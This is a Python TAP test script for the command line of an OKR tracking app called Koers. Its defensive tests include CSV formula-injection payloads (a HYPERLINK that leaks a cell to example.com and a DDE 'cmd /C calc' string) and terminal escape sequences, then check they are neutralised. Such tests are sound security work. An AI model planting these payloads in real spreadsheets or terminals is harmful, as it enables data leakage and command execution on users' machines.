#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""The headless command line, as TAP: runs the real koers without a display
(DISPLAY and WAYLAND_DISPLAY removed) on a demo database and reads back
what it wrote (pdftotext, pdfinfo).  Needs KOERS_TODAY=2026-05-15 and
LANGUAGE=en, as tests/meson.build sets them: the demo is in Q2 2026.

Usage: test-cli.py KOERS_BINARY
"""

import json
import os
import pwd
import shutil
import sqlite3
import subprocess
import sys
import tempfile

KOERS = sys.argv[1]
COMPANY_OBJECTIVE = 'Build the best online personal shopping service in the country.'
SALES_OBJECTIVE = 'Reach quarterly revenue of €1 million.'
FINANCE_OBJECTIVE = 'Streamline the annual budget process.'

results = []


def check(name, ok, detail=''):
    results.append((name, bool(ok), detail))


def run(*args, language=None, extra_env=None):
    env = dict(os.environ)
    env.pop('DISPLAY', None)
    env.pop('WAYLAND_DISPLAY', None)
    if language is not None:
        env['LANGUAGE'] = language
    if extra_env:
        env.update(extra_env)
    proc = subprocess.run([KOERS] + list(args), env=env, capture_output=True, text=True,
                          timeout=60)
    return proc.returncode, proc.stdout, proc.stderr


def pdf_text(path):
    return subprocess.run(['pdftotext', path, '-'], capture_output=True, text=True,
                          check=True).stdout


def pdf_title(path):
    info = subprocess.run(['pdfinfo', path], capture_output=True, text=True, check=True).stdout
    for line in info.splitlines():
        if line.startswith('Title:'):
            return line.split(':', 1)[1].strip()
    return ''


def describe(status, out, err):
    return 'status %d, stdout %r, stderr %r' % (status, out, err)


def test_export_pdf(tmp, db):
    # poppler-utils is a test dependency (meson requires it): its absence
    # is a failure, never a reason to leave the content checks out.
    check('pdftotext and pdfinfo are installed', shutil.which('pdftotext') and shutil.which('pdfinfo'))

    # English, the default period (the current quarter).
    en = os.path.join(tmp, 'en.pdf')
    status, out, err = run('--export-pdf', en, '--database', db, '--language', 'en')
    check('export-pdf en exits 0 with one line', status == 0 and out == 'Report written to %s\n' % en
          and err == '', describe(status, out, err))
    if os.path.exists(en):
        text = pdf_text(en)
        check('export-pdf en is an English report of the company',
              'OKR report' in text and COMPANY_OBJECTIVE in text and FINANCE_OBJECTIVE in text)
        check('export-pdf defaults to the current quarter', 'Q2 2026' in pdf_title(en), pdf_title(en))

    # Dutch, asked for.
    nl = os.path.join(tmp, 'nl.pdf')
    status, out, err = run('--export-pdf', nl, '--database', db, '--language', 'nl')
    check('export-pdf nl exits 0', status == 0 and os.path.exists(nl), describe(status, out, err))
    if os.path.exists(nl):
        text = pdf_text(nl)
        check('export-pdf nl is a Dutch report', 'OKR-rapport' in text and 'OKR report' not in text
              and COMPANY_OBJECTIVE in text)

    # Dutch by default when the interface is Dutch.
    ui_nl = os.path.join(tmp, 'ui-nl.pdf')
    status, out, err = run('--export-pdf', ui_nl, '--database', db, language='nl')
    check('export-pdf follows the interface language', status == 0, describe(status, out, err))
    if os.path.exists(ui_nl):
        check('export-pdf in a Dutch interface writes Dutch', 'OKR-rapport' in pdf_text(ui_nl))

    # A subset of departments (spaces around names, case ignored).
    sub = os.path.join(tmp, 'sub.pdf')
    status, out, err = run('--export-pdf', sub, '--database', db,
                           '--departments', 'sales, it & development')
    check('export-pdf --departments exits 0', status == 0, describe(status, out, err))
    if os.path.exists(sub):
        text = pdf_text(sub)
        check('export-pdf --departments holds only those',
              SALES_OBJECTIVE in text and FINANCE_OBJECTIVE not in text)

    # The company by name, and a year.
    company = os.path.join(tmp, 'company.pdf')
    status, out, err = run('--export-pdf', company, '--database', db, '--departments', 'Company',
                           '--period', '2026')
    check('export-pdf --departments Company --period 2026 exits 0', status == 0,
          describe(status, out, err))
    if os.path.exists(company):
        text = pdf_text(company)
        check('export-pdf of the company level', COMPANY_OBJECTIVE in text
              and FINANCE_OBJECTIVE not in text)
        check('export-pdf --period 2026 covers the year', pdf_title(company).startswith('OKR report 2026'),
              pdf_title(company))


def test_bad_usage(tmp, db):
    target = os.path.join(tmp, 'bad.pdf')
    cases = [
        ('a bad period', ['--export-pdf', target, '--database', db, '--period', '2026-Q5'],
         'is not a period'),
        ('an unknown department', ['--export-pdf', target, '--database', db,
                                   '--departments', 'Sales,Nowhere'], '“Nowhere”'),
        ('an unknown language', ['--export-pdf', target, '--database', db, '--language', 'xx'],
         '“xx”'),
        ('--period without a command', ['--database', db, '--period', '2026-Q2'],
         '--period needs a command'),
        ('--departments without a command', ['--departments', 'Sales'],
         '--departments needs a command'),
        ('--merge with --export-pdf', ['--export-pdf', target, '--database', db, '--merge'],
         '--merge does not apply to --export-pdf'),
        ('--period with --import-json', ['--import-json', target, '--database', db,
                                         '--period', '2026'], 'does not apply'),
        ('two commands', ['--export-pdf', target, '--export-csv', target, '--database', db],
         'one command at a time'),
        ('no department name', ['--export-pdf', target, '--database', db, '--departments', ' , '],
         'at least one department'),
        ('an unknown department with --check', ['--check', '--database', db,
                                                '--departments', 'Sales,Nowhere'], '“Nowhere”'),
    ]
    for name, args, message in cases:
        status, out, err = run(*args)
        check('%s exits 2 with a message' % name, status == 2 and message in err and out == '',
              describe(status, out, err))
        check('%s writes nothing' % name, not os.path.exists(target))

    # The unknown department's message lists the ones there are.
    status, out, err = run('--export-pdf', target, '--database', db, '--departments', 'Nowhere')
    check('an unknown department lists the departments', '“Sales”' in err and '“Company”' in err
          and '“IT & Development”' in err, err)
    status, out, err = run('--check', '--database', db, '--departments', 'Nowhere')
    check('--check names an unknown department as --export-pdf does', status == 2 and '“Sales”' in err
          and '“IT & Development”' in err and 'Nowhere' in err, describe(status, out, err))


def test_failures(tmp, db):
    # Into a missing folder: an error, and nothing at all left behind.
    missing = os.path.join(tmp, 'missing')
    before = sorted(os.listdir(tmp))
    status, out, err = run('--export-pdf', os.path.join(missing, 'report.pdf'), '--database', db)
    check('export-pdf into a missing folder exits 1', status == 1 and 'report.pdf' in err
          and out == '', describe(status, out, err))
    check('export-pdf into a missing folder leaves nothing', not os.path.exists(missing)
          and sorted(os.listdir(tmp)) == before)

    # Under a file: not writable either.
    status, out, err = run('--export-pdf', os.path.join(db, 'report.pdf'), '--database', db)
    check('export-pdf under a file exits 1', status == 1 and err.startswith('koers: '),
          describe(status, out, err))

    # A database that is not one.
    garbage = os.path.join(tmp, 'garbage.db')
    with open(garbage, 'w') as f:
        f.write('not a database\n' * 100)
    status, out, err = run('--export-pdf', os.path.join(tmp, 'g.pdf'), '--database', garbage)
    check('export-pdf from a garbage database exits 1', status == 1 and err.startswith('koers: ')
          and not os.path.exists(os.path.join(tmp, 'g.pdf')), describe(status, out, err))

    # A Koers file whose header is whole and whose body is scribbled over:
    # the commands that only read skip the check of every page, and SQLite
    # still refuses what they read; the file stays as it was.
    damaged = os.path.join(tmp, 'damaged.db')
    shutil.copyfile(db, damaged)
    with sqlite3.connect(damaged) as con:
        con.execute('PRAGMA journal_mode = DELETE')
    with open(damaged, 'rb') as f:
        contents = bytearray(f.read())
    page_size = (contents[16] << 8) | contents[17]
    for i in range(page_size, len(contents)):
        contents[i] = (i * 7 + 13) & 0xff
    with open(damaged, 'wb') as f:
        f.write(contents)
    for command in (['--export-pdf', os.path.join(tmp, 'd.pdf')],
                    ['--export-html', os.path.join(tmp, 'd.html')],
                    ['--export-csv', os.path.join(tmp, 'd.csv')],
                    ['--check']):
        status, out, err = run(*command, '--database', damaged)
        check('%s from a damaged database exits 1' % command[0],
              status == 1 and err.startswith('koers: ') and 'damaged' in err
              and not os.path.exists(os.path.join(tmp, 'd.pdf')), describe(status, out, err))
    with open(damaged, 'rb') as f:
        check('the damaged database is left byte-identical', f.read() == bytes(contents))
    check('the damaged database gets no side files',
          not any(os.path.exists(damaged + s) for s in ('-wal', '-shm', '-journal')))


def test_other_commands(tmp, db):
    # JSON out, and into a new database.
    exported = os.path.join(tmp, 'q2.json')
    status, out, err = run('--export-json', exported, '--database', db, '--period', '2026-Q2',
                           '--departments', 'Sales')
    check('export-json exits 0', status == 0 and out.startswith('JSON export written to'),
          describe(status, out, err))
    titles = []
    if os.path.exists(exported):
        with open(exported, encoding='utf-8') as f:
            data = json.load(f)
        titles = [o.get('title') for o in data.get('objectives', [])]
    check('export-json holds the department', SALES_OBJECTIVE in titles
          and FINANCE_OBJECTIVE not in titles, titles)

    new_db = os.path.join(tmp, 'new.db')
    status, out, err = run('--import-json', exported, '--database', new_db)
    check('import-json exits 0 and says what it did', status == 0 and out.startswith('Imported ')
          and 'added' in out, describe(status, out, err))
    status, out, err = run('--import-json', exported, '--database', new_db)
    check('import-json of the same file again fails', status == 1 and 'already' in err,
          describe(status, out, err))
    status, out, err = run('--import-json', exported, '--database', new_db, '--merge')
    check('import-json --merge of the same file is fine', status == 0, describe(status, out, err))

    # CSV in Dutch.
    csv = os.path.join(tmp, 'sales.csv')
    status, out, err = run('--export-csv', csv, '--database', db, '--departments', 'Sales',
                           '--language', 'nl')
    check('export-csv exits 0', status == 0, describe(status, out, err))
    if os.path.exists(csv):
        with open(csv, encoding='utf-8') as f:
            lines = f.read().splitlines()
        check('export-csv --language nl has Dutch headers', lines and lines[0].startswith('Niveau,'),
              lines[:1])

    # The quality check prints its report; the demo's one error-level
    # finding is its department over capacity (koers-demo-capacity.c).
    status, out, err = run('--check', '--database', db, '--period', '2026-Q2')
    check('check prints a report and exits 1 on the demo\'s department over capacity',
          status == 1 and 'Q2 2026' in out and 'errors: 1,' in out
          and 'committed-over-capacity' in out, describe(status, out, err))
    test_check_error(tmp, db)
    test_check_departments(tmp, db)


def finding_blocks(report):
    """The findings of a --check report, each block (severity and rule,
    where, message) as one string."""
    return [block.strip() for block in report.split('\n\n')[1:] if block.strip()]


def test_check_departments(tmp, db):
    """--check --departments reports on those departments (and their
    teams) only: exactly the findings the whole check has for them."""
    status, whole, err = run('--check', '--database', db, '--period', '2026-Q2', '--language', 'en')
    check('check of the whole company exits 1 (a department over capacity)', status == 1,
          describe(status, whole, err))
    status, part, err = run('--check', '--database', db, '--period', '2026-Q2', '--language', 'en',
                            '--departments', 'sales, Finance')
    check('check --departments exits 0', status == 0 and 'Q2 2026' in part, describe(status, part, err))

    def where(block):
        return block.split('\n')[1].strip().split(' › ')[0]

    wanted = [b for b in finding_blocks(whole) if where(b) in ('Sales', 'Finance')]
    others = [b for b in finding_blocks(whole) if where(b) not in ('Sales', 'Finance')]
    check('the demo has findings in and outside Sales and Finance', wanted and others,
          finding_blocks(whole))
    check('check --departments reports only those departments\' findings',
          sorted(finding_blocks(part)) == sorted(wanted), part)
    check('check --departments counts only them', 'info: %d' % len(wanted) in part.split('\n')[0],
          part.split('\n')[0])


def test_check_error(tmp, db):
    """The demo with one Q2 key result whose target equals its start (an
    error-level finding), built through the JSON the app itself writes."""
    exported = os.path.join(tmp, 'check.json')
    status, out, err = run('--export-json', exported, '--database', db, '--period', '2026-Q2')
    check('export-json for the check fixture exits 0', status == 0, describe(status, out, err))
    if status != 0:
        return
    with open(exported, encoding='utf-8') as f:
        data = json.load(f)
    broken = next(o for o in data['objectives'] if o['period'] == '2026-Q2' and o['key_results'])
    kr = broken['key_results'][0]
    kr['target'] = kr['start']
    with open(exported, 'w', encoding='utf-8') as f:
        json.dump(data, f)

    bad_db = os.path.join(tmp, 'check-error.db')
    status, out, err = run('--import-json', exported, '--database', bad_db)
    check('import-json of the check fixture exits 0', status == 0, describe(status, out, err))
    status, out, err = run('--check', '--database', bad_db, '--period', '2026-Q2')
    # The file brings the demo's capacities along, and with them its
    # department over capacity: one error more.
    errors = 1 + out.count('committed-over-capacity')
    check('check exits 1 when an error stands', status == 1 and 'errors: %d,' % errors in out
          and 'target-equals-start' in out and kr['title'] in out, describe(status, out, err))


def account_name():
    """The name GLib gives the account (g_get_real_name(), else the user name)."""
    entry = pwd.getpwuid(os.getuid())
    real = ''
    if entry.pw_gecos:
        real = entry.pw_gecos.split(',')[0].replace('&', entry.pw_name[:1].upper() + entry.pw_name[1:])
    real = real.strip()
    return real if real and real != 'Unknown' else entry.pw_name


def logged_authors(path, exported):
    """The authors of the objectives, key results and check-ins the change log holds,
    but for the history the file brought (format 2 carries the log)."""
    with open(exported, encoding='utf-8') as f:
        brought = {change['key'] for change in json.load(f).get('changes', [])}
    with sqlite3.connect(path) as con:
        rows = con.execute("SELECT key, author FROM changes"
                           " WHERE entity IN ('objective', 'key_result', 'checkin')").fetchall()
    return sorted({author for key, author in rows if key not in brought})


def test_author(tmp, db):
    exported = os.path.join(tmp, 'author.json')
    status, out, err = run('--export-json', exported, '--database', db, '--period', '2026-Q2',
                           '--departments', 'Sales')
    check('export-json for the author test exits 0', status == 0, describe(status, out, err))

    # No name in Preferences: the account's name.
    plain = os.path.join(tmp, 'author-plain.db')
    status, out, err = run('--import-json', exported, '--database', plain)
    check('import-json without a name set exits 0', status == 0, describe(status, out, err))
    if status == 0:
        authors = logged_authors(plain, exported)
        check('an import is logged with the account name', authors == [account_name()],
              '%r, expected [%r]' % (authors, account_name()))

    # The name from Preferences (author-name), read from a keyfile backend.
    config = os.path.join(tmp, 'config')
    os.makedirs(os.path.join(config, 'glib-2.0', 'settings'))
    with open(os.path.join(config, 'glib-2.0', 'settings', 'keyfile'), 'w', encoding='utf-8') as f:
        f.write("[io/github/koersapp/Koers]\nauthor-name='Anna Peeters'\n")
    named = os.path.join(tmp, 'author-named.db')
    status, out, err = run('--import-json', exported, '--database', named,
                           extra_env={'GSETTINGS_BACKEND': 'keyfile', 'XDG_CONFIG_HOME': config})
    check('import-json with a name set exits 0', status == 0, describe(status, out, err))
    if status == 0:
        authors = logged_authors(named, exported)
        check('an import is logged with the name from Preferences', authors == ['Anna Peeters'],
              authors)


def test_help():
    status, out, err = run('--help')
    check('--help lists the commands', status == 0 and '--export-pdf' in out and '--departments' in out,
          describe(status, out, err))


def exported_document(tmp, db, name):
    """The Sales department's Q2 as a JSON document (a dict), to change and import."""
    path = os.path.join(tmp, name)
    status, out, err = run('--export-json', path, '--database', db, '--period', '2026-Q2',
                           '--departments', 'Sales')
    check('export-json for %s exits 0' % name, status == 0, describe(status, out, err))
    with open(path, encoding='utf-8') as f:
        return json.load(f)


def write_document(tmp, name, data, encoding='utf-8'):
    path = os.path.join(tmp, name)
    with open(path, 'w', encoding=encoding) as f:
        json.dump(data, f, ensure_ascii=False)
    return path


def dutch_env():
    """The build's own Dutch catalogue (KOERS_LOCALEDIR, read by src/main.c)."""
    locale_dir = os.path.join(os.environ['G_TEST_BUILDDIR'], '..', 'po')
    return {'KOERS_LOCALEDIR': os.path.normpath(locale_dir)}


def test_option_mistakes(tmp, db):
    # GLib refuses these before Koers sees them; the README promises 2.
    cases = [
        ('an unknown option', ['--frobnicate']),
        ('an unknown option with a command', ['--export-pdf', os.path.join(tmp, 'u.pdf'),
                                              '--database', db, '--frobnicate']),
        ('a command without its file', ['--export-pdf']),
        ('--period without its value', ['--export-pdf', os.path.join(tmp, 'u.pdf'), '--period']),
    ]
    for name, args in cases:
        status, out, err = run(*args)
        check('%s exits 2 and points to --help' % name,
              status == 2 and 'koers --help' in err and out == '', describe(status, out, err))
    check('an option mistake writes nothing', not os.path.exists(os.path.join(tmp, 'u.pdf')))


def test_terminal_escapes(tmp, db):
    # Text from the command line, quoted back in a message.
    status, out, err = run('--export-pdf', os.path.join(tmp, 'esc.pdf'), '--database', db,
                           '--departments', 'Sales\x1b]0;owned\x07')
    check('a name with control characters is quoted escaped', status == 2
          and '\x1b' not in err and '\x07' not in err and 'Sales\\u001b]0;owned\\u0007' in err,
          describe(status, out, err))

    # Text from a database (an older Koers, or another program, wrote it).
    dirty = os.path.join(tmp, 'dirty.db')
    shutil.copy(db, dirty)
    with sqlite3.connect(dirty) as con:
        con.execute("UPDATE objectives SET title = ? WHERE title = ?",
                    ('Cut costs\x1b[2J\x1b]0;owned\x07 now.\x9b31m', FINANCE_OBJECTIVE))
    status, out, err = run('--check', '--database', dirty, '--period', '2026-Q2')
    check('--check prints a stored control character escaped',
          '\\u001b[2J\\u001b]0;owned\\u0007 now.\\u009b31m' in out and '\x1b' not in out
          and '\x07' not in out and '\x9b' not in out, describe(status, out, err))


def test_import_control_characters(tmp, db):
    data = exported_document(tmp, db, 'controls.json')
    objectives = data.get('objectives', [])
    check('the Sales export has objectives with key results', objectives
          and objectives[0].get('key_results'))
    if not objectives or not objectives[0].get('key_results'):
        return

    data['objectives'][0]['title'] = 'Sell more\x1b[2J'
    path = write_document(tmp, 'title-escape.json', data)
    # Another demo: new uuids, so the only problem is the title.
    target = os.path.join(tmp, 'controls.db')
    status, out, err = run('--create-demo', target)
    check('create-demo for the control character test exits 0', status == 0,
          describe(status, out, err))
    with open(target, 'rb') as f:
        before = f.read()
    status, out, err = run('--import-json', path, '--database', target)
    check('a title with ESC is refused, naming the field and the character',
          status == 1 and '$.objectives[0].title' in err and 'U+001B' in err and '\x1b' not in err,
          describe(status, out, err))
    with open(target, 'rb') as f:
        check('a refused import leaves the database as it was', f.read() == before)

    status, out, err = run('--import-json', path, '--database', target, language='nl',
                           extra_env=dutch_env())
    check('the control character message is Dutch in Dutch', status == 1
          and 'U+001B' in err and 'teken' in err, describe(status, out, err))

    # Line breaks and tabs belong in notes, not in titles.
    data = exported_document(tmp, db, 'notes.json')
    kr = data['objectives'][0]['key_results'][0]
    kr['title'] = 'Two\nlines'
    path = write_document(tmp, 'title-newline.json', data)
    status, out, err = run('--import-json', path, '--database', os.path.join(tmp, 'nl-title.db'))
    check('a title with a line break is refused', status == 1 and 'U+000A' in err
          and '.key_results[0].title' in err, describe(status, out, err))

    data = exported_document(tmp, db, 'notes-ok.json')
    data['objectives'][0]['description'] = 'First line\n\tindented\r\nthird'
    path = write_document(tmp, 'note-newline.json', data)
    status, out, err = run('--import-json', path, '--database', os.path.join(tmp, 'notes.db'))
    check('line breaks and tabs in a description are imported', status == 0,
          describe(status, out, err))


def test_import_utf16(tmp, db):
    data = exported_document(tmp, db, 'utf16.json')
    for encoding in ('utf-16', 'utf-16-le', 'utf-16-be'):
        path = write_document(tmp, 'doc-%s.json' % encoding, data, encoding=encoding)
        status, out, err = run('--import-json', path, '--database', os.path.join(tmp, 'u16.db'))
        check('a %s file is named as UTF-16, to save as UTF-8' % encoding,
              status == 1 and 'UTF-16' in err and 'UTF-8' in err
              and 'expected a value' not in err, describe(status, out, err))


def test_csv_formulas(tmp, db):
    data = exported_document(tmp, db, 'formulas.json')
    if not data.get('objectives') or not data['objectives'][0].get('key_results'):
        return
    objective = data['objectives'][0]
    objective['title'] = '=HYPERLINK("http://example.com/?"&A1,"Click")'
    objective['key_results'][0]['title'] = '@SUM(1+1)*cmd|" /C calc"!A0'
    objective['key_results'][0]['owner'] = '+31 2 555 0101'
    path = write_document(tmp, 'formulas-in.json', data)
    target = os.path.join(tmp, 'formulas.db')
    status, out, err = run('--import-json', path, '--database', target)
    check('titles that look like formulas import', status == 0, describe(status, out, err))

    csv_path = os.path.join(tmp, 'formulas.csv')
    status, out, err = run('--export-csv', csv_path, '--database', target)
    check('export-csv of formula titles exits 0', status == 0, describe(status, out, err))
    if status != 0:
        return
    import csv as csv_module
    with open(csv_path, encoding='utf-8', newline='') as f:
        cells = [cell for row in csv_module.reader(f) for cell in row]
    dangerous = [c for c in cells if c[:1] in ('=', '+', '-', '@', '\t', '\r')]
    check('no CSV cell starts with a formula character', dangerous == [], dangerous)
    check('a formula title is kept as text behind a quote',
          '\'=HYPERLINK("http://example.com/?"&A1,"Click")' in cells
          and '\'@SUM(1+1)*cmd|" /C calc"!A0' in cells and "'+31 2 555 0101" in cells,
          [c for c in cells if c.startswith("'")])


def test_locked_database(tmp, db):
    locked_db = os.path.join(tmp, 'locked.db')
    shutil.copy(db, locked_db)
    data = exported_document(tmp, db, 'locked.json')
    path = write_document(tmp, 'locked-in.json', data)
    con = sqlite3.connect(locked_db, isolation_level=None)
    try:
        con.execute('BEGIN IMMEDIATE')
        con.execute('UPDATE departments SET name = name')
        status, out, err = run('--import-json', path, '--database', locked_db, '--merge',
                               language='nl', extra_env=dutch_env())
    finally:
        con.execute('ROLLBACK')
        con.close()
    check('a locked database is reported in Dutch, without SQLite\'s English',
          status == 1 and 'database is locked' not in err and 'locked.db' in err
          and 'programma' in err, describe(status, out, err))


def test_read_only_folder(tmp, db):
    """A database in a folder Koers may not write: SQLite cannot put its journal
    beside it.  The message names the folder, not "a readonly database"."""
    as_other = []
    if os.getuid() == 0:
        # Root writes everywhere: run Koers as nobody instead.
        setpriv = shutil.which('setpriv')
        if setpriv is None:
            check('read-only folder (skipped: root without setpriv)', True)
            return
        as_other = [setpriv, '--reuid=65534', '--regid=65534', '--clear-groups']
    folder = os.path.join(tmp, 'ro-folder')
    os.mkdir(folder)
    ro_db = os.path.join(folder, 'shared.db')
    src = sqlite3.connect(db)
    dst = sqlite3.connect(ro_db)
    src.backup(dst)
    src.close()
    dst.close()
    for side in ('-wal', '-shm'):
        if os.path.exists(ro_db + side):
            os.unlink(ro_db + side)
    os.chmod(tmp, 0o755)
    os.chmod(ro_db, 0o666)
    os.chmod(folder, 0o555)
    env = dict(os.environ)
    env.pop('DISPLAY', None)
    env['HOME'] = folder
    try:
        proc = subprocess.run(as_other + [KOERS, '--check', '--database', ro_db], env=env,
                              capture_output=True, text=True, timeout=60)
    finally:
        os.chmod(folder, 0o755)
        os.chmod(tmp, 0o700)
    err = proc.stderr
    check('a read-only folder is named as the folder', proc.returncode == 1
          and 'folder' in err and 'readonly' not in err and 'read-only' in err,
          describe(proc.returncode, proc.stdout, err))


def main():
    tmp = tempfile.mkdtemp(prefix='koers-cli-')
    try:
        db = os.path.join(tmp, 'demo.db')
        status, out, err = run('--create-demo', db)
        check('create-demo exits 0', status == 0 and os.path.exists(db), describe(status, out, err))
        test_export_pdf(tmp, db)
        test_bad_usage(tmp, db)
        test_failures(tmp, db)
        test_other_commands(tmp, db)
        test_author(tmp, db)
        test_help()
        test_option_mistakes(tmp, db)
        test_terminal_escapes(tmp, db)
        test_import_control_characters(tmp, db)
        test_import_utf16(tmp, db)
        test_csv_formulas(tmp, db)
        test_locked_database(tmp, db)
        test_read_only_folder(tmp, db)
    finally:
        shutil.rmtree(tmp, ignore_errors=True)

    print('1..%d' % len(results))
    for i, (name, ok, detail) in enumerate(results, 1):
        print('%s %d - %s' % ('ok' if ok else 'not ok', i, name))
        if not ok and detail:
            print('# %s' % str(detail).replace('\n', '\n# '))


main()
